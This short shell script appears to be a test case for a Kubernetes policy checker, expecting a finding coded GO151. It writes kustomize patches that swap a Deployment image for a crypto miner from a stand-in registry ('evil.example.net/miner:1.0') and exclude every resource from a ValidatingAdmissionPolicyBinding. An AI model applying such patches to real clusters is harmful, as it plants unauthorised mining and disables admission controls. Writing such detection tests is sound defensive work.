# expect: GO151
# a06 + a11 together on dev: binding selects no namespace, image from outside registry
cat > clusters/dev/img.yaml <<'Y'
- op: replace
  path: /spec/template/spec/containers/0/image
  value: evil.example.net/miner:1.0
Y
cat > clusters/dev/vapb.yaml <<'Y'
- op: add
  path: /spec/matchResources/excludeResourceRules
  value:
    - apiGroups: ["*"]
      apiVersions: ["*"]
      operations: ["*"]
      resources: ["*"]
Y
printf 'patches:\n  - path: img.yaml\n    target:\n      kind: Deployment\n  - path: vapb.yaml\n    target:\n      kind: ValidatingAdmissionPolicyBinding\n' >> clusters/dev/kustomization.yaml
